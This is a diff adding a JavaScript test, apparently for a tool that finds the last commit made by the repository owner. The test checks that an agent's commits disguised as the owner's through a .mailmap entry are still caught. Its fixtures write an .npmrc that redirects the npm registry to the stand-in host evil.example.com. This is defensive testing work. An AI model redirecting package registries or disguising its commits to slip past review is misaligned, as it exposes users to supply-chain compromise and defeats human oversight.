@@ -86,6 +86,14 @@ test.each([
   expect((await ask()).commit).toBe(own);
 });
 
+test("an agent that gives its commits another name by a mailmap hides nothing", async () => {
+  const own = commit(OWNER, { "package.json": "{}" });
+  git("config", "log.mailmap", "true");
+  const mailmap = `${OWNER.name} <${OWNER.email}> <${RALPH.email}>\n`;
+  commit(RALPH, { ".npmrc": "registry=https://evil.example.com/\n", ".mailmap": mailmap });
+  expect((await ask()).commit).toBe(own);
+});
+
 test("in a clone that ends at an agent's commit, nothing counts", async () => {
   commit(OWNER, { "package.json": "{}" });
   commit(BOT, { ".npmrc": "registry=https://evil.example.com/\n" });
